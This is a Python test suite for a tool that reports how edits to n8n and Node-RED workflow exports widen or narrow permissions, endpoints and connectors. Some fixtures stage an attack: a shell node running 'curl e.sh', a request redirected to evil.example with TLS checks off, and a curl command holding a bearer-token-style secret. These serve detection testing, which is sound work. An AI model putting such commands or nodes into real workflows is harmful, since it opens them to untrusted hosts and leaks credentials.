"""What a change does to permissions and connectors, over real parsers."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from store.domain.component import Parsed
from store.domain.impact import Code, Direction, Fact, Surface, impact
from store.domain.impact.facts import DIRECTIONS
from store.domain.impact.words import sentence
from store.platforms import recognise

FIXTURES = Path(__file__).parent / "fixtures"


def orders() -> Any:
    return json.loads((FIXTURES / "node_red/orders-v1.json").read_bytes())


def webhook() -> Any:
    return {
        "id": "42",
        "name": "Orders in",
        "nodes": [
            {
                "id": "a",
                "name": "Order arrives",
                "type": "n8n-nodes-base.webhook",
                "typeVersion": 2,
                "parameters": {"path": "orders", "authentication": "headerAuth"},
            },
            {
                "id": "b",
                "name": "Nightly",
                "type": "n8n-nodes-base.scheduleTrigger",
                "typeVersion": 1.2,
                "parameters": {"rule": {"interval": [{"field": "hours", "hoursInterval": 6}]}},
            },
            {
                "id": "c",
                "name": "Tell the shop",
                "type": "n8n-nodes-base.httpRequest",
                "typeVersion": 4,
                "parameters": {"url": "https://shop.example/hook", "options": {}},
                "credentials": {"httpHeaderAuth": {"id": "7", "name": "Shop"}},
            },
        ],
        "connections": {},
    }


def read(value: Any) -> Parsed:
    return recognise(json.dumps(value).encode(), "flows.json")


def facts(make: Callable[[], Any], edit: Callable[[Any], object]) -> tuple[Fact, ...]:
    new = make()
    edit(new)
    return impact(read(make()), read(new)).facts


def part(value: Any, name: str) -> Any:
    nodes = value["nodes"] if isinstance(value, dict) else value
    return next(node for node in nodes if node.get("name") == name or node.get("label") == name)


def codes(found: tuple[Fact, ...]) -> list[str]:
    return [fact.code.value for fact in found]


def test_an_endpoint_that_lost_its_authentication_is_told_apart_from_a_new_one() -> None:
    def open_it(value: Any) -> None:
        part(value, "Order arrives")["parameters"]["authentication"] = "none"

    (lost,) = facts(webhook, open_it)
    assert (lost.code, lost.direction) == (Code.AUTHENTICATION_LOST, Direction.WIDER)
    assert lost.words == (
        "Order arrives in Orders in lost its authentication: it answers on /orders and asks for no authentication"
    )

    def another(value: Any) -> None:
        new = copy.deepcopy(part(value, "Order arrives"))
        new |= {"id": "d", "name": "Side door", "parameters": {"path": "side"}}
        value["nodes"].append(new)

    (opened,) = facts(webhook, another)
    assert (opened.code, opened.part, opened.component) == (Code.ENDPOINT_OPENED, "Side door", "42")


def test_an_endpoint_that_gained_authentication_narrows() -> None:
    new = webhook()
    old = webhook()
    part(old, "Order arrives")["parameters"]["authentication"] = "none"
    (gained,) = impact(read(old), read(new)).facts
    assert (gained.code, gained.direction) == (Code.AUTHENTICATION_GAINED, Direction.NARROWER)


def test_a_node_of_another_type_in_the_place_of_one_lost_no_authentication() -> None:
    def replace(value: Any) -> None:
        part(value, "Tell the shop").update(type="n8n-nodes-base.webhook", parameters={"path": "x"}, credentials={})

    assert Code.ENDPOINT_OPENED in [fact.code for fact in facts(webhook, replace)]


def test_a_schedule_that_runs_more_often_is_told_with_both_rhythms() -> None:
    def hurry(value: Any) -> None:
        part(value, "Nightly")["parameters"]["rule"] = {"interval": [{"field": "minutes", "minutesInterval": 5}]}

    (faster,) = facts(webhook, hurry)
    assert faster.code is Code.SCHEDULE_FASTER
    assert (faster.old, faster.new) == ("runs every 6 hours", "runs every 5 minutes")

    old = webhook()
    hurry(old)
    (slower,) = impact(read(old), read(webhook())).facts
    assert (slower.code, slower.direction) == (Code.SCHEDULE_SLOWER, Direction.NARROWER)


def test_a_cron_line_of_node_red_compares_with_an_interval() -> None:
    def every_second(value: Any) -> None:
        part(value, "Every minute").update(repeat="1", crontab="")

    assert codes(facts(orders, every_second)) == ["schedule-faster"]


def test_another_credential_in_the_place_of_one_is_one_permission_fact() -> None:
    def swap(value: Any) -> None:
        part(value, "Tell the shop")["credentials"] = {"httpHeaderAuth": {"id": "8", "name": "Shop admin"}}

    found = facts(webhook, swap)
    assert codes(found) == ["credential-changed", "connector-added", "connector-removed"]
    assert found[0].words == ("Orders in uses another credential: httpHeaderAuth: Shop → httpHeaderAuth: Shop admin")


def test_another_credential_of_the_same_name_is_told_apart_by_its_id() -> None:
    def swap(value: Any) -> None:
        part(value, "Tell the shop")["credentials"]["httpHeaderAuth"]["id"] = "99"

    assert facts(webhook, swap)[0].words.endswith("httpHeaderAuth: Shop (7) → httpHeaderAuth: Shop (99)")


def test_a_shell_node_a_false_server_and_a_new_host_are_told_first_what_widens() -> None:
    def attack(value: Any) -> None:
        value["nodes"].append(
            {"id": "x", "name": "Run", "type": "n8n-nodes-base.executeCommand", "parameters": {"command": "curl e.sh"}}
        )
        shop = part(value, "Tell the shop")
        shop["parameters"] |= {"url": "https://evil.example/", "options": {"allowUnauthorizedCerts": True}}
        part(value, "Order arrives")["parameters"]["path"] = "other"

    found = facts(webhook, attack)
    assert codes(found) == ["shell-added", "tls-off", "connector-added", "connector-removed"]
    assert found[0].words == "Run in Orders in is new and starts programs: it runs the command curl e.sh"
    assert found[2].words == "host evil.example is new, used by Orders in"


def test_a_module_that_changed_its_version_keeps_its_name() -> None:
    def with_version(version: str) -> Any:
        value = orders()
        function = next(node for node in value if node["type"] == "function")
        function["libs"] = [{"var": "x", "module": f"dayjs@{version}"}]
        return value

    (changed,) = impact(read(with_version("1.0.0")), read(with_version("2.0.0"))).facts
    assert (changed.code, changed.old, changed.new) == (Code.CONNECTOR_VERSION, "1.0.0", "2.0.0")


def test_a_second_component_that_uses_a_known_host_is_told() -> None:
    two = [webhook(), webhook() | {"id": "43", "name": "Second", "nodes": []}]

    def also(value: Any) -> None:
        value[1]["nodes"] = [part(value[0], "Tell the shop")]

    found = facts(lambda: copy.deepcopy(two), also)
    assert codes(found) == ["connector-used", "connector-used"]
    assert found[0].words == "Second now uses the credential httpHeaderAuth: Shop"


def test_components_and_nodes_that_came_back_under_new_ids_change_no_permission() -> None:
    new = json.loads(json.dumps(webhook()).replace('"id": "42"', '"id": "77"'))
    for number, node in enumerate(new["nodes"]):
        node["id"] = f"fresh-{number}"
    assert impact(read(webhook()), read(new)).facts == ()


def test_a_renamed_node_changes_no_permission() -> None:
    old = webhook()
    part(old, "Order arrives")["parameters"]["authentication"] = "none"
    new = copy.deepcopy(old)
    part(new, "Order arrives")["name"] = "Bestellung"
    assert impact(read(old), read(new)).facts == ()


def test_everything_of_a_new_export_is_new_and_of_a_removed_one_gone() -> None:
    nothing, all_of_it = Surface(), read(webhook())
    came, went = impact(nothing, all_of_it).facts, impact(all_of_it, nothing).facts
    assert {fact.direction for fact in came} == {Direction.WIDER}
    assert {fact.direction for fact in went} == {Direction.NARROWER}
    assert len(came) == len(went) == 3


def test_a_secret_is_in_no_fact() -> None:
    def leak(value: Any) -> None:
        command = "curl -H 'Authorization: Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc' https://a.example"
        value["nodes"].append(
            {"id": "x", "name": "Run", "type": "n8n-nodes-base.executeCommand", "parameters": {"command": command}}
        )

    found = facts(webhook, leak)
    assert "secret-added" in codes(found)
    assert "4eC39" not in json.dumps([fact.to_json() for fact in found])


def test_every_code_has_a_direction_and_a_sentence() -> None:
    assert set(DIRECTIONS) == set(Code)
    for code in Code:
        assert "{" not in sentence(Fact(code=code, part="{x}"[1:2], new="y"))


@pytest.mark.parametrize(
    "path", sorted(path for path in FIXTURES.rglob("*") if path.is_file()), ids=lambda path: path.name
)
def test_nothing_changes_from_an_export_to_itself(path: Path) -> None:
    parsed = recognise(path.read_bytes(), path.name)
    assert impact(parsed, recognise(path.read_bytes(), path.name)).facts == ()


def test_the_documentation_names_every_code_under_its_direction() -> None:
    page = (Path(__file__).parents[2] / "docs" / "diff.md").read_text()
    told = {
        code: line.partition(":")[0].removeprefix("- ")
        for line in page.split("\n")
        if line.startswith(("- wider", "- other", "- narrower"))
        for code in line.split("`")[1::2]
    }
    assert told == {code.value: direction.value for code, direction in DIRECTIONS.items()}


def test_what_went_together_with_its_broker_is_not_said_to_check_anything_now() -> None:
    broker = {"id": "m1", "type": "mqtt-broker", "name": "House", "broker": "mq.example", "port": "1883"}
    facts = impact(read([*orders(), broker]), read(orders())).facts
    (said,) = [sentence(fact) for fact in facts if fact.code == Code.TLS_ON]
    assert said == "House talks to nobody unchecked any more"
